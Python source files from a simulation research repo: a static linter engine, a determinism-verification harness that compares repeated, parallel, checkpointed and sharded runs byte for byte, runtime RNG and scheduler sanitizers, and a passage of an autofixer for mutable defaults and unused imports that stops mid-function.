    codes = project_scope_codes(select=select, ignore=ignore)
    if not codes:
        return []
    index = ProjectIndex.from_sources(sources)
    ctx = ProjectContext(index, contract_override=contract)
    shardcheck.run_project_checks(ctx, codes)
    suppressions = {
        module.path: parse_suppressions(module.source)
        for module in index.modules.values()
    }
    kept = [
        violation for violation in ctx.violations
        if violation.path not in suppressions
        or not suppressions[violation.path].suppressed(
            violation.line, violation.code)
    ]
    kept.sort(key=lambda violation:
              (violation.path, violation.line, violation.col, violation.code))
    return kept


def lint_paths(
    paths: Iterable[str],
    select: Optional[Sequence[str]] = None,
    ignore: Optional[Sequence[str]] = None,
    contract: Optional[dict] = None,
) -> List[Violation]:
    """Lint every ``.py`` file under ``paths``: the per-file pass plus
    the whole-program pass, in one deterministic ordering."""
    violations: List[Violation] = []
    sources: Dict[str, object] = {}
    for filename in iter_python_files(paths):
        with open(filename, encoding="utf-8") as handle:
            source = handle.read()
        sources[module_name_for(filename)] = (filename, source)
        violations.extend(
            lint_source(source, path=filename, select=select, ignore=ignore)
        )
    violations.extend(
        lint_project_sources(sources, select=select, ignore=ignore,
                             contract=contract)
    )
    violations.sort(key=lambda violation:
                    (violation.path, violation.line, violation.col,
                     violation.code))
    return violations


# ----------------------------------------------------------------------
# --diff: restrict the walk to files changed against a git ref
# ----------------------------------------------------------------------
def changed_python_files(base: str, paths: Iterable[str]) -> List[str]:
    """The subset of ``paths``' python files changed vs git ref ``base``.

    Deleted files drop out naturally (they no longer exist on disk).
    Raises ``RuntimeError`` when git cannot resolve the ref — a silent
    empty list would make the pre-commit hook vacuously green.
    """
    proc = subprocess.run(
        ["git", "diff", "--name-only", "-z", base, "--"],
        capture_output=True, text=True,
    )
    if proc.returncode != 0:
        raise RuntimeError(
            f"git diff against {base!r} failed: {proc.stderr.strip()}"
        )
    root_proc = subprocess.run(
        ["git", "rev-parse", "--show-toplevel"],
        capture_output=True, text=True,
    )
    root = root_proc.stdout.strip() or os.getcwd()
    changed = {
        os.path.abspath(os.path.join(root, name))
        for name in proc.stdout.split("\0")
        if name.endswith(".py")
    }
    return [
        filename for filename in iter_python_files(paths)
        if os.path.abspath(filename) in changed and os.path.exists(filename)
    ]
