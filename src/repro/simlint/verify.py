"""Double-run determinism harness: prove bit-identity, localize drift.

The repo's contract — the same (config, seed) is byte-identical,
run-to-run and across ``--jobs`` — is what the result cache and the
parallel sweeps stand on.  This harness *executes* the contract:

1. **double-run**: run one config twice under a full trace observatory
   and compare the canonical trace (every ``repro.obs`` event, wall
   clock stripped) plus the serialized :class:`RunResult`.  On a
   mismatch it reports the **first diverging trace event** — the
   closest observable to the root cause, since everything after it is
   cascade.
2. **jobs**: run a figure-2-style sweep at ``jobs=1`` and ``jobs=N``
   and compare rows byte-for-byte, proving dispatch order cannot leak
   into results.
3. **resume** (opt-in via ``--resume``): run one config straight, run
   it again with checkpoints armed (:mod:`repro.checkpoint`), resume a
   third run from the on-disk checkpoint, and require both the
   checkpointed and the resumed runs' serialized results and metrics
   snapshots to be byte-identical to the straight run's — the
   checkpoint layer must be result-neutral AND recovery-exact.

``repro verify-determinism`` is a thin CLI over
:func:`verify_determinism`; CI runs it on a small grid as a gate.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Callable, List, Optional, Sequence, Tuple


@dataclass(frozen=True)
class Divergence:
    """First position where two runs disagree."""

    index: int
    left: Optional[str]    # None when one side is shorter
    right: Optional[str]

    def to_dict(self) -> dict:
        return {"index": self.index, "left": self.left, "right": self.right}


@dataclass
class CheckResult:
    """Outcome of one determinism check."""

    name: str
    identical: bool
    compared: int                      # events or rows compared
    divergence: Optional[Divergence] = None
    detail: str = ""

    def to_dict(self) -> dict:
        return {
            "name": self.name,
            "identical": self.identical,
            "compared": self.compared,
            "divergence": self.divergence.to_dict() if self.divergence else None,
            "detail": self.detail,
        }


@dataclass
class DeterminismReport:
    checks: List[CheckResult] = field(default_factory=list)

    @property
    def identical(self) -> bool:
        return all(check.identical for check in self.checks)

    def to_dict(self) -> dict:
        return {
            "identical": self.identical,
            "checks": [check.to_dict() for check in self.checks],
        }

    def format_text(self) -> str:
        lines = []
        for check in self.checks:
            status = "ok" if check.identical else "DIVERGED"
            lines.append(f"{check.name:<24} {status:<9} "
                         f"({check.compared} compared) {check.detail}".rstrip())
            if check.divergence is not None:
                div = check.divergence
                lines.append(f"  first divergence at #{div.index}:")
                lines.append(f"    run A: {div.left}")
                lines.append(f"    run B: {div.right}")
        verdict = ("determinism contract holds: runs are bit-identical"
                   if self.identical else
                   "DETERMINISM VIOLATION: see first diverging event above")
        lines.append(verdict)
        return "\n".join(lines)


# ----------------------------------------------------------------------
# Canonicalization
# ----------------------------------------------------------------------
def canonical_trace_lines(tracer) -> List[str]:
    """Every buffered trace event as one canonical JSON line.

    The wall-clock stamp is stripped (it is *supposed* to differ between
    runs) and events merge across rings in (virtual time, name, fields)
    order — a total order built only from deterministic inputs, so two
    byte-identical runs produce byte-identical line sequences.
    """
    lines = []
    for name in tracer.event_types():
        for position, event in enumerate(tracer.events(name)):
            payload = {"event": event.name, "t": event.t, "n": position}
            payload.update({
                key: value for key, value in event.fields.items()
            })
            lines.append(json.dumps(payload, sort_keys=True, default=str))
    lines.sort()
    return lines


def first_divergence(left: Sequence[str], right: Sequence[str]) -> Optional[Divergence]:
    """First index where the sequences disagree, or None if identical."""
    for index, (a, b) in enumerate(zip(left, right)):
        if a != b:
            return Divergence(index=index, left=a, right=b)
    if len(left) != len(right):
        index = min(len(left), len(right))
        longer = left if len(left) > len(right) else right
        extra = longer[index]
        return Divergence(
            index=index,
            left=extra if len(left) > len(right) else None,
            right=extra if len(right) > len(left) else None,
        )
    return None


# ----------------------------------------------------------------------
# Checks
# ----------------------------------------------------------------------
def traced_run(config) -> Tuple[str, List[str]]:
    """(serialized RunResult, canonical trace lines) for one run."""
    from repro.core.framework import DDoSim
    from repro.obs import Observatory
    from repro.serialization import result_to_json

    ddosim = DDoSim(config, observatory=Observatory.full())
    result = ddosim.run()
    return result_to_json(result), canonical_trace_lines(ddosim.obs.tracer)


def verify_double_run(
    config,
    run_fn: Callable[[object], Tuple[str, List[str]]] = traced_run,
) -> CheckResult:
    """Execute ``config`` twice; compare result bytes and full traces.

    ``run_fn`` is injectable so the harness itself is testable: the
    suite feeds it a deliberately nondeterministic runner and asserts
    the first diverging event is localized exactly.
    """
    result_a, trace_a = run_fn(config)
    result_b, trace_b = run_fn(config)
    divergence = first_divergence(trace_a, trace_b)
    if divergence is not None:
        return CheckResult(
            name="double-run", identical=False,
            compared=min(len(trace_a), len(trace_b)),
            divergence=divergence,
            detail="same config, two runs: traces diverge",
        )
    if result_a != result_b:
        return CheckResult(
            name="double-run", identical=False, compared=len(trace_a),
            divergence=first_divergence(
                result_a.splitlines(), result_b.splitlines()
            ),
            detail="traces identical but serialized results differ",
        )
    return CheckResult(
        name="double-run", identical=True, compared=len(trace_a),
        detail=f"{len(trace_a)} trace events bit-identical",
    )


def verify_jobs(
    devs_grid: Sequence[int] = (2, 4),
    seed: int = 1,
    jobs: int = 4,
    base_config=None,
) -> CheckResult:
    """figure2 sweep rows at ``jobs=1`` vs ``jobs=N`` must match bytes."""
    from repro.core.experiment import FIGURE2_CHURN, run_figure2

    serial = run_figure2(devs_grid=tuple(devs_grid),
                         churn_modes=FIGURE2_CHURN, seed=seed, jobs=1,
                         base_config=base_config)
    parallel = run_figure2(devs_grid=tuple(devs_grid),
                           churn_modes=FIGURE2_CHURN, seed=seed, jobs=jobs,
                           base_config=base_config)
    serial_rows = [json.dumps(row, sort_keys=True) for row in serial]
    parallel_rows = [json.dumps(row, sort_keys=True) for row in parallel]
    divergence = first_divergence(serial_rows, parallel_rows)
    return CheckResult(
        name=f"jobs 1-vs-{jobs}",
        identical=divergence is None,
        compared=len(serial_rows),
        divergence=divergence,
        detail=(f"{len(serial_rows)} sweep rows bit-identical"
                if divergence is None else
                "parallel dispatch changed sweep rows"),
    )


def verify_resume(
    config=None,
    seed: int = 1,
    flow: str = "off",
    every: Optional[float] = None,
) -> CheckResult:
    """Checkpoint/resume equivalence as a determinism check.

    Three runs of one config: straight, checkpointed (ticks every
    ``every`` sim-seconds), and resumed from the last on-disk
    checkpoint.  All three must serialize to identical result bytes and
    identical metrics snapshots; a replay drift raises
    :class:`repro.checkpoint.CheckpointDivergence` naming the subsystem.
    """
    import shutil
    import tempfile

    from repro.checkpoint import CheckpointWriter, resume_run
    from repro.core.framework import DDoSim
    from repro.obs import Observatory
    from repro.serialization import result_to_json

    if config is None:
        from repro.core.config import SimulationConfig

        config = SimulationConfig(n_devs=3, seed=seed, flood_flow=flow,
                                  attack_duration=30.0, sim_duration=200.0)

    def run_serialized(ddosim) -> Tuple[str, str]:
        result = ddosim.run()
        metrics = json.dumps(ddosim.obs.metrics.snapshot(), sort_keys=True)
        return result_to_json(result), metrics

    straight = DDoSim(config, observatory=Observatory())
    straight_bytes = run_serialized(straight)
    if every is None:
        # Aim for ~3 ticks inside the run that just finished.
        every = max(1.0, straight.sim.now / 4.0)
    directory = tempfile.mkdtemp(prefix="repro-verify-resume-")
    try:
        checkpointed = DDoSim(config, observatory=Observatory())
        CheckpointWriter(directory, every).arm(checkpointed)
        checkpointed_bytes = run_serialized(checkpointed)
        resumed = resume_run(directory, observatory=Observatory())
        resumed_bytes = (
            result_to_json(resumed.result),
            json.dumps(resumed.ddosim.obs.metrics.snapshot(), sort_keys=True),
        )
        ticks = len(resumed.writer.verified)
    finally:
        shutil.rmtree(directory, ignore_errors=True)
    for name, other in (("checkpointed", checkpointed_bytes),
                        ("resumed", resumed_bytes)):
        if other != straight_bytes:
            which = "result" if other[0] != straight_bytes[0] else "metrics"
            return CheckResult(
                name="resume", identical=False, compared=ticks,
                divergence=first_divergence(
                    straight_bytes[0 if which == "result" else 1].splitlines(),
                    other[0 if which == "result" else 1].splitlines(),
                ),
                detail=f"{name} run's {which} bytes differ from straight run",
            )
    return CheckResult(
        name="resume", identical=True, compared=ticks,
        detail=f"straight == checkpointed == resumed "
               f"({ticks} barrier(s) verified on replay)",
    )


def verify_shards(
    config=None,
    shards: int = 2,
    seed: int = 1,
    flow: str = "off",
) -> CheckResult:
    """Sharded-engine parity as a determinism check.

    One config, run single-process and again partitioned across
    ``shards`` worker processes (:func:`repro.netsim.shard.run_sharded`);
    the serialized result and the metrics snapshot must match byte for
    byte.  A divergence is localized to the first differing line of
    whichever artifact drifted — the conservative window protocol is
    only correct if NO line can differ.
    """
    from repro.netsim.shard import run_sharded
    from repro.serialization import result_to_json

    if config is None:
        from repro.core.config import SimulationConfig

        config = SimulationConfig(n_devs=4, seed=seed, flood_flow=flow,
                                  attack_duration=30.0, sim_duration=200.0)

    def run_serialized(n: int) -> Tuple[str, str, dict]:
        run = run_sharded(config, n)
        metrics = json.dumps(run.ddosim.obs.metrics.snapshot(),
                             sort_keys=True, indent=2)
        return result_to_json(run.result), metrics, run.stats

    single_result, single_metrics, _stats = run_serialized(1)
    sharded_result, sharded_metrics, stats = run_serialized(shards)
    name = f"shards 1-vs-{shards}"
    compared = len(single_result.splitlines()) + len(single_metrics.splitlines())
    if sharded_result != single_result:
        return CheckResult(
            name=name, identical=False, compared=compared,
            divergence=first_divergence(
                single_result.splitlines(), sharded_result.splitlines()
            ),
            detail="sharded run's serialized result differs",
        )
    if sharded_metrics != single_metrics:
        return CheckResult(
            name=name, identical=False, compared=compared,
            divergence=first_divergence(
                single_metrics.splitlines(), sharded_metrics.splitlines()
            ),
            detail="results identical but metrics snapshots differ",
        )
    return CheckResult(
        name=name, identical=True, compared=compared,
        detail=(f"result+metrics bit-identical across "
                f"{stats['workers']} worker(s), "
                f"{stats['sync_rounds']} sync rounds"),
    )


def verify_shard_lint(shards: int = 2, seed: int = 1) -> CheckResult:
    """Shard-safety cross-check: static analyzer, then runtime auditor.

    The SIM2xx project pass must come back clean over the installed
    ``repro`` sources, and an audited sharded run
    (:class:`repro.simlint.runtime.ShardAccessAuditor`) must report no
    cross-rank access on any rank.  Together they close the loop: what
    the analyzer proves about the source, the auditor confirms about an
    actual partitioned execution.
    """
    import os

    import repro
    from repro.simlint.engine import lint_paths

    name = "shard-lint"
    package_dir = os.path.dirname(os.path.abspath(repro.__file__))
    findings = lint_paths([package_dir], select=["SIM2"])
    if findings:
        first = findings[0]
        return CheckResult(
            name=name, identical=False, compared=len(findings),
            detail=(f"{len(findings)} SIM2xx finding(s); first: "
                    f"{first.path}:{first.line}: {first.code} "
                    f"{first.message}"),
        )

    from repro.core.config import SimulationConfig
    from repro.netsim.shard import run_sharded

    config = SimulationConfig(n_devs=4, seed=seed, attack_duration=30.0,
                              sim_duration=200.0)
    run = run_sharded(config, shards, audit=True)
    reports = run.stats.get("audit") or []
    dirty = [report for report in reports if not report["clean"]]
    if dirty:
        violation = dirty[0]["violations"][0]
        return CheckResult(
            name=name, identical=False, compared=len(reports),
            detail=(f"rank {dirty[0]['rank']} shard-access violation: "
                    f"{violation['kind']} {violation['target']} at "
                    f"{violation['site']}"),
        )
    return CheckResult(
        name=name, identical=True, compared=len(reports),
        detail=("SIM2xx static pass clean; audited sharded run clean "
                f"on {len(reports)} worker rank(s)"),
    )


def verify_determinism(
    config=None,
    devs_grid: Sequence[int] = (2, 4),
    seed: int = 1,
    jobs: int = 4,
    flow: str = "off",
    resume: bool = False,
    shards: int = 0,
) -> DeterminismReport:
    """The full gate: double-run trace identity + jobs row identity.

    ``flow`` puts the fluid-flow datapath under the same contract: the
    checked config (and the sweep's base config) run with that crossover
    mode, so ``verify-determinism --flow all`` proves the analytic
    solver is as bit-stable as the packet path.  ``shards >= 2`` adds
    the sharded-engine parity check at that shard count.
    """
    base_config = None
    if config is None:
        from repro.core.config import SimulationConfig

        config = SimulationConfig(n_devs=max(devs_grid), seed=seed,
                                  flood_flow=flow)
    if flow != "off":
        from repro.core.config import SimulationConfig

        base_config = SimulationConfig(flood_flow=flow)
    report = DeterminismReport()
    report.checks.append(verify_double_run(config))
    report.checks.append(verify_jobs(devs_grid=devs_grid, seed=seed, jobs=jobs,
                                     base_config=base_config))
    if resume:
        report.checks.append(verify_resume(seed=seed, flow=flow))
    if shards >= 2:
        report.checks.append(verify_shards(shards=shards, seed=seed,
                                           flow=flow))
        report.checks.append(verify_shard_lint(shards=shards, seed=seed))
    return report
