"""Runtime determinism sanitizer: what static rules cannot see.

Two dynamic monitors complement the AST linter:

* :class:`TieBreakAuditor` wraps any scheduler (:mod:`repro.netsim.
  scheduler`) and records **same-timestamp collisions between different
  callback sites**.  Ties are broken deterministically by sequence
  number, but when two *different* sites land on one timestamp the
  outcome depends on scheduling order — a refactor that reorders the
  ``schedule()`` calls silently reorders the simulation.  The audit
  surfaces where that fragility lives.

* :class:`RngStreamGuard` accounts randomness by **named stream**.
  Every ``random.Random`` in the repo is seeded per purpose
  (``f"{seed}-churn"``, ``f"{seed}-faults"``...); the guard counts draws
  per registered stream and — via :meth:`RngStreamGuard.guard_module_rng`
  — intercepts any draw from the process-global ``random`` module, the
  runtime twin of lint rule SIM102.

Both produce plain-dict reports so ``repro verify-determinism`` and the
tests can assert on them.
"""

from __future__ import annotations

import random
import sys
from contextlib import contextmanager
from typing import Dict, List, Optional

from repro.obs.profiler import site_of

#: module-global draw functions the guard intercepts (names, so this
#: module itself stays SIM102-clean)
_MODULE_DRAW_FNS = (
    "random", "randint", "randrange", "choice", "choices", "shuffle",
    "sample", "uniform", "gauss", "expovariate", "getrandbits",
)

#: cap on recorded collision samples / unregistered draws (reports stay
#: readable even when a run misbehaves everywhere)
_SAMPLE_CAP = 32


class TieBreakAuditor:
    """Scheduler wrapper that audits same-timestamp tie-breaks.

    Drop-in for any scheduler object::

        sim = Simulator(scheduler=TieBreakAuditor(HeapScheduler()))

    or retrofit an assembled run (events already queued keep flowing —
    the auditor delegates to the same inner scheduler)::

        auditor = TieBreakAuditor.attach(ddosim.sim)
        ddosim.run()
        report = auditor.report()
    """

    name = "tiebreak-audit"

    def __init__(self, inner) -> None:
        self._inner = inner
        # per pending timestamp: [event count, set of callback sites]
        self._ties_at: Dict[float, list] = {}
        self.pushes = 0
        self.tied_timestamps = 0      # timestamps that collected >1 event
        self.cross_site_ties = 0      # ties between *different* sites
        self.samples: List[dict] = []

    @classmethod
    def attach(cls, sim) -> "TieBreakAuditor":
        """Wrap a simulator's scheduler in place (forces the generic
        run loop; the inlined heap fast path bypasses wrappers)."""
        auditor = cls(sim._sched)
        sim._sched = auditor
        sim._heap = None
        return auditor

    # -- delegated scheduler protocol ---------------------------------
    def __len__(self) -> int:
        return len(self._inner)

    def peek(self):
        return self._inner.peek()

    def drop_cancelled_head(self) -> int:
        return self._inner.drop_cancelled_head()

    def remove_cancelled(self) -> int:
        return self._inner.remove_cancelled()

    # -- audited operations -------------------------------------------
    def push(self, event) -> None:
        self.pushes += 1
        site = site_of(event.callback)
        entry = self._ties_at.get(event.time)
        if entry is None:
            self._ties_at[event.time] = [1, {site}]
            self._inner.push(event)
            return
        entry[0] += 1
        sites = entry[1]
        if entry[0] == 2:
            self.tied_timestamps += 1
        if site not in sites:
            # Same-site ties keep FIFO meaning (a pacer re-arming
            # itself); cross-site ties are the order-fragile ones.
            self.cross_site_ties += 1
            if len(self.samples) < _SAMPLE_CAP:
                self.samples.append({
                    "time": event.time,
                    "sites": sorted(sites | {site}),
                })
            sites.add(site)
        self._inner.push(event)

    def pop_next(self, limit: Optional[float] = None):
        event = self._inner.pop_next(limit)
        if event is not None and len(self._ties_at) > 8192:
            now = event.time
            self._ties_at = {
                time: entry for time, entry in self._ties_at.items()
                if time >= now
            }
        return event

    def report(self) -> dict:
        return {
            "pushes": self.pushes,
            "tied_timestamps": self.tied_timestamps,
            "cross_site_ties": self.cross_site_ties,
            "samples": list(self.samples),
        }


class _CountedStream:
    """Proxy around one ``random.Random`` that tallies draws per stream."""

    def __init__(self, guard: "RngStreamGuard", name: str, rng: random.Random):
        self._guard = guard
        self._name = name
        self._rng = rng

    def __getattr__(self, attr: str):
        target = getattr(self._rng, attr)
        if attr in _MODULE_DRAW_FNS or attr in (
                "normalvariate", "betavariate", "triangular", "randbytes"):
            guard, name = self._guard, self._name

            def counted(*args, **kwargs):
                guard._record(name)
                return target(*args, **kwargs)
            return counted
        return target


class RngStreamGuard:
    """Named-stream randomness accounting.

    ``stream(name, seed)`` registers a seeded stream and returns a
    counting proxy; ``draws`` maps stream name to draw count after a
    run.  :meth:`guard_module_rng` additionally intercepts the process-
    global ``random`` module for the duration of a ``with`` block — any
    draw there is an *unregistered stream* and gets recorded with its
    caller site.
    """

    def __init__(self) -> None:
        self.draws: Dict[str, int] = {}
        self.unregistered: List[dict] = []

    def stream(self, name: str, seed=None) -> _CountedStream:
        """Register (and return) the named stream, seeded per purpose."""
        return self.register(name, random.Random(seed))

    def register(self, name: str, rng: random.Random) -> _CountedStream:
        if name in self.draws:
            raise ValueError(f"stream {name!r} already registered")
        self.draws[name] = 0
        return _CountedStream(self, name, rng)

    def _record(self, name: str) -> None:
        self.draws[name] += 1

    def _record_unregistered(self, function: str) -> None:
        if len(self.unregistered) < _SAMPLE_CAP:
            frame = sys._getframe(2)
            self.unregistered.append({
                "function": f"random.{function}",
                "site": f"{frame.f_code.co_filename}:{frame.f_lineno}",
            })
        else:
            self.unregistered[-1]["truncated"] = True

    @contextmanager
    def guard_module_rng(self):
        """Intercept module-global ``random`` draws inside the block."""
        originals = {name: getattr(random, name) for name in _MODULE_DRAW_FNS}

        def make_spy(name: str, original):
            def spy(*args, **kwargs):
                self._record_unregistered(name)
                return original(*args, **kwargs)
            return spy

        for name, original in originals.items():
            setattr(random, name, make_spy(name, original))
        try:
            yield self
        finally:
            for name, original in originals.items():
                setattr(random, name, original)

    @property
    def clean(self) -> bool:
        """True when no draw escaped to the process-global RNG."""
        return not self.unregistered

    def report(self) -> dict:
        return {
            "streams": dict(sorted(self.draws.items())),
            "total_draws": sum(self.draws.values()),
            "unregistered_draws": list(self.unregistered),
            "clean": self.clean,
        }


class _AuditedMutedCounter:
    """What a worker-rank registry hands out for a muted counter family
    when the shard access audit is on: still a no-op counter (the
    parent's replica is the counting one), but every increment whose
    call stack contains NO declared replicated site is recorded as a
    counter-conservation violation — the runtime twin of SIM203."""

    __slots__ = ("_auditor", "_family")

    def __init__(self, auditor: "ShardAccessAuditor", family: str):
        self._auditor = auditor
        self._family = family

    def labels(self, *values):
        return self

    def inc(self, amount=1) -> None:
        self._auditor._check_muted(self._family)

    # a muted family may be registered under any instrument kind
    def dec(self, amount=1) -> None:
        self._auditor._check_muted(self._family)

    def set(self, value) -> None:
        self._auditor._check_muted(self._family)

    def observe(self, value) -> None:
        self._auditor._check_muted(self._family)


class ShardAccessAuditor:
    """Runtime shard-ownership sanitizer (dynamic twin of SIM201/SIM203).

    Installed on worker ranks of a sharded run (``run_sharded(...,
    audit=True)``).  Two mechanisms, both driven by the same
    ``SHARD_CONTRACT`` literal the static analyzer reads:

    * :meth:`guard` tags a rank-0-owned object by swapping in a
      generated subclass whose ``__setattr__`` records the touch — the
      first illegal cross-rank write is captured with its call site
      (the object keeps working; the report is the product).
    * :meth:`muted_instrument` wraps the worker-muted counter families:
      an increment with no declared replicated site anywhere on the
      stack exists only on this rank and would vanish from the merged
      snapshot, so it is recorded with the offending call site.

    When the audit is off nothing is installed anywhere — disabled runs
    execute the exact same code as before the auditor existed.
    """

    name = "shard-access-audit"

    def __init__(self, rank: int, contract: Optional[dict] = None) -> None:
        if contract is None:
            from repro.netsim.shard import SHARD_CONTRACT as contract
        self.rank = rank
        self.violations: List[dict] = []
        self._guarded: List[tuple] = []
        #: path suffixes of the modules whose code is replicated on
        #: every rank ("repro.core.churn:DynamicChurn" -> "core/churn.py").
        #: The shard module itself is excluded: the worker serve loop
        #: sits at the bottom of every stack on this rank, so matching
        #: it would declare everything replicated.
        self._replicated_paths = tuple(sorted({
            pattern.split(":", 1)[0].replace(".", "/") + ".py"
            for pattern in contract.get("replicated_sites", ())
            if not pattern.split(":", 1)[0].endswith(".shard")
        }))

    # -- recording -----------------------------------------------------
    def _site(self) -> str:
        """First stack frame outside this module (the offender)."""
        depth = 2
        while True:
            try:
                frame = sys._getframe(depth)
            except ValueError:  # pragma: no cover - stack exhausted
                return "<unknown>"
            if frame.f_code.co_filename != __file__:
                return f"{frame.f_code.co_filename}:{frame.f_lineno}"
            depth += 1

    def _record(self, kind: str, target: str, detail: str) -> None:
        if len(self.violations) < _SAMPLE_CAP:
            self.violations.append({
                "rank": self.rank,
                "kind": kind,
                "target": target,
                "detail": detail,
                "site": self._site(),
            })

    def _stack_is_replicated(self) -> bool:
        depth, budget = 2, 64
        while budget:
            try:
                frame = sys._getframe(depth)
            except ValueError:
                return False
            filename = frame.f_code.co_filename
            for suffix in self._replicated_paths:
                if filename.endswith(suffix):
                    return True
            depth += 1
            budget -= 1
        return False  # pragma: no cover - pathological stack depth

    def _check_muted(self, family: str) -> None:
        if not self._stack_is_replicated():
            self._record(
                "muted-counter", family,
                "incremented outside every replicated site: the count "
                "exists only on this worker rank and vanishes from the "
                "merged snapshot",
            )

    # -- object guarding ----------------------------------------------
    def guard(self, obj, label: str):
        """Tag ``obj`` as rank-0-owned: any attribute write through it
        on this rank is recorded (object behavior is unchanged)."""
        auditor = self
        cls = type(obj)

        def audited_setattr(target, attr, value):
            auditor._record("owned-object", label, f"wrote .{attr}")
            super(audited, target).__setattr__(attr, value)

        audited = type(f"_Audited{cls.__name__}", (cls,), {
            "__slots__": (),                # layout-compatible with cls
            "__setattr__": audited_setattr,
        })
        obj.__class__ = audited
        self._guarded.append((obj, cls))
        return obj

    def muted_instrument(self, family: str) -> _AuditedMutedCounter:
        return _AuditedMutedCounter(self, family)

    def unguard_all(self) -> None:
        """Restore every guarded object's original class."""
        for obj, cls in self._guarded:
            # plain assignment would route through the audited
            # __setattr__ and record the restore itself
            object.__setattr__(obj, "__class__", cls)
        self._guarded.clear()

    @property
    def clean(self) -> bool:
        return not self.violations

    def report(self) -> dict:
        return {
            "rank": self.rank,
            "violations": list(self.violations),
            "clean": self.clean,
        }


def audit_run(config, guard_module_rng: bool = True) -> dict:
    """Run one config under the full sanitizer.

    Builds a :class:`repro.core.framework.DDoSim`, wraps its scheduler
    in a :class:`TieBreakAuditor`, optionally guards the module-global
    RNG, runs to completion, and returns a combined report::

        {"tiebreak": {...}, "module_rng": {...}, "result": RunResult}
    """
    from repro.core.framework import DDoSim

    guard = RngStreamGuard()
    ddosim = DDoSim(config)
    auditor = TieBreakAuditor.attach(ddosim.sim)
    if guard_module_rng:
        with guard.guard_module_rng():
            result = ddosim.run()
    else:
        result = ddosim.run()
    return {
        "tiebreak": auditor.report(),
        "module_rng": guard.report(),
        "result": result,
    }
