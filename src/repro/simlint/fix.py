"""Autofixer: mechanical rewrites for the fixable rule subset.

``repro lint --fix`` applies these; everything else stays report-only.
Two rules have safe, purely mechanical fixes:

* **SIM104** (mutable default argument) — replace the default with
  ``None`` and rebuild inside the body::

      def f(items=[]):            def f(items=None):
          ...              -->        if items is None:
                                          items = []
                                      ...

  The rebuild lands after the docstring, so help text stays first.
  Defaults whose expression spans lines are left alone (report-only).

* **SIM108** (unused import) — drop the unused alias; the statement
  disappears entirely when nothing on it is used.

Fixes are span edits applied bottom-up, so earlier edits never shift
later ones.  The result must re-parse — if a rewrite would produce a
syntax error the original source is returned untouched.  Running the
fixer twice is a no-op by construction: fixed code no longer matches
either rule (asserted by the round-trip tests).
"""

from __future__ import annotations

import ast
from typing import List, Optional, Sequence, Tuple

from repro.simlint.checks import (
    _is_mutable_default,
    _names_used,
    _type_checking_nodes,
)
from repro.simlint.rules import parse_suppressions

#: the codes --fix knows how to rewrite
FIXABLE_CODES = ("SIM104", "SIM108")

#: one span edit: (start_line, start_col, end_line, end_col, replacement)
#: — lines 1-based (ast convention), cols 0-based, end exclusive
_Edit = Tuple[int, int, int, int, str]


def _apply_edits(source: str, edits: List[_Edit]) -> str:
    """Apply span edits bottom-up; overlapping edits are a bug upstream."""
    lines = source.splitlines(keepends=True)
    for start_line, start_col, end_line, end_col, text in sorted(
        edits, key=lambda edit: (edit[0], edit[1]), reverse=True
    ):
        head = lines[start_line - 1][:start_col]
        tail = lines[end_line - 1][end_col:]
        lines[start_line - 1:end_line] = [head + text + tail]
    return "".join(lines)


def _indent_of(line: str) -> str:
    return line[:len(line) - len(line.lstrip())]


# ----------------------------------------------------------------------
# SIM104: default to None, rebuild inside
# ----------------------------------------------------------------------
def _mutable_defaults(
    node: ast.AST,
) -> List[Tuple[ast.arg, ast.expr]]:
    """(param, default) pairs with a mutable default, in signature order."""
    args = node.args
    pairs: List[Tuple[ast.arg, ast.expr]] = []
    positional = args.posonlyargs + args.args
    for arg, default in zip(positional[len(positional) - len(args.defaults):],
                            args.defaults):
        pairs.append((arg, default))
    for arg, default in zip(args.kwonlyargs, args.kw_defaults):
        if default is not None:
            pairs.append((arg, default))
    return [(arg, default) for arg, default in pairs
            if _is_mutable_default(default)]


def _fix_mutable_defaults(
    source: str, tree: ast.AST, suppressions
) -> Tuple[List[_Edit], int]:
    lines = source.splitlines(keepends=True)
    edits: List[_Edit] = []
    fixed = 0
    for node in ast.walk(tree):
        if not isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            continue  # a Lambda has no body to rebuild in
        rebuilds: List[str] = []
        for arg, default in _mutable_defaults(node):
            if suppressions.suppressed(default.lineno, "SIM104"):
                continue
            if default.lineno != default.end_lineno:
                continue  # multi-line default: report-only
            default_text = ast.get_source_segment(source, default)
            if default_text is None:  # pragma: no cover - 3.8 fallback
                continue
            edits.append((default.lineno, default.col_offset,
                          default.end_lineno, default.end_col_offset, "None"))
            rebuilds.append((arg.arg, default_text))
            fixed += 1
        if not rebuilds:
            continue
        body = node.body
        anchor = body[0]
        if (isinstance(anchor, ast.Expr)
                and isinstance(anchor.value, ast.Constant)
                and isinstance(anchor.value.value, str)
                and len(body) > 1):
            anchor = body[1]  # keep the docstring first
        indent = _indent_of(lines[anchor.lineno - 1])
        text = "".join(
            f"{indent}if {name} is None:\n"
            f"{indent}    {name} = {default_text}\n"
            for name, default_text in rebuilds
        )
        edits.append((anchor.lineno, 0, anchor.lineno, 0, text))
    return edits, fixed


# ----------------------------------------------------------------------
# SIM108: drop unused aliases
# ----------------------------------------------------------------------
def _alias_text(alias: ast.alias) -> str:
    if alias.asname:
        return f"{alias.name} as {alias.asname}"
    return alias.name


def _fix_unused_imports(
    source: str, tree: ast.AST, suppressions
) -> Tuple[List[_Edit], int]:
    lines = source.splitlines(keepends=True)
    used = _names_used(tree)
    guarded = _type_checking_nodes(tree)
    edits: List[_Edit] = []
    fixed = 0
    for node in ast.walk(tree):
        if id(node) in guarded:
            continue
        if isinstance(node, (ast.Import, ast.ImportFrom)) \
                and suppressions.suppressed(node.lineno, "SIM108"):
            continue
        if isinstance(node, ast.Import):
            keep = [alias for alias in node.names
                    if (alias.asname or alias.name.split(".")[0]) in used]
            prefix = "import "
        elif isinstance(node, ast.ImportFrom):
            if node.module == "__future__":
                continue
            keep = [alias for alias in node.names
                    if alias.name == "*"
                    or alias.asname == alias.name  # re-export idiom
                    or (alias.asname or alias.name) in used]
            dots = "." * node.level
            prefix = f"from {dots}{node.module or ''} import "
        else:
            continue
        if len(keep) == len(node.names):
            continue
        fixed += len(node.names) - len(keep)
        indent = _indent_of(lines[node.lineno - 1])
        end_col = len(lines[node.end_lineno - 1].rstrip("\n"))
        if keep:
            text = indent + prefix + ", ".join(_alias_text(a) for a in keep)
            edits.append((node.lineno, 0, node.end_lineno, end_col, text))
        else:
            # delete the whole statement, trailing newline included
            edits.append((node.lineno, 0, node.end_lineno,
